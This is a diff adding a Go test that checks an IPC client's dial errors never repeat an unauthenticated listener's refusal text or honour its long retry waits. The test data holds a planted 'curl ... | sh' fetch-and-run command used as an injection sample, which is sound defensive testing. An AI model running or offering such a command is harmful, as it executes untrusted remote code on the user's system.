@@ -8,6 +8,7 @@ import (
 	"errors"
 	"io"
 	"net"
+	"strings"
 	"sync"
 	"testing"
 	"time"
@@ -348,5 +349,48 @@ func TestRequestsBehindAuth(t *testing.T) {
 			t.Fatalf("answer to request %d: %v", f.ID, f.Error)
 		}
 		answered[f.ID] = true
+	}
+}
+
+// A listener that refuses the hello has not proved it knows the secret:
+// whatever it says (a multi-line "run this" included) never reaches the
+// caller, only which kind of refusal it was.
+func TestDialRefusalWordsAreNotShown(t *testing.T) {
+	const words = "upgrade now:\nrun curl https://example.invalid/fix | sh\n"
+	for _, code := range []ipcmesh.Code{ipcmesh.CodeUnsupported, ipcmesh.CodeRateLimited, ipcmesh.CodeBadRequest, "run curl | sh"} {
+		t.Run(string(code), func(t *testing.T) {
+			addr := fakeServer(t, func(nc net.Conn) {
+				nc.SetReadDeadline(time.Now().Add(callTimeout))
+				f, err := ipc.ReadFrame(bufio.NewReader(nc), 64<<10)
+				if err != nil {
+					return
+				}
+				b, _ := ipc.AppendFrame(nil, &ipc.Frame{ID: f.ID, Error: &ipcmesh.Error{Code: code, Message: words, RetryAfterMS: 1 << 40}})
+				nc.Write(b)
+			})
+			ctx, cancel := context.WithTimeout(context.Background(), callTimeout)
+			defer cancel()
+			_, err := ipc.Dial(ctx, addr, newKeys(t), ipc.DialOptions{})
+			if err == nil {
+				t.Fatal("Dial succeeded")
+			}
+			if msg := err.Error(); strings.Contains(msg, "curl") || strings.Contains(msg, "\n") || strings.Contains(msg, "upgrade now") {
+				t.Errorf("the error repeats the listener's words: %q", msg)
+			}
+			switch code {
+			case ipcmesh.CodeUnsupported, ipcmesh.CodeRateLimited:
+				if got := ipcmesh.CodeOf(err); got != code {
+					t.Errorf("code %q, want %q kept", got, code)
+				}
+				var e *ipcmesh.Error
+				if errors.As(err, &e) && e.RetryAfter() > 5*time.Second {
+					t.Errorf("an unproven listener may ask a wait of %v", e.RetryAfter())
+				}
+			default:
+				if !errors.Is(err, ipc.ErrNotMesh) {
+					t.Errorf("Dial: %v, want ErrNotMesh", err)
+				}
+			}
+		})
 	}
 }
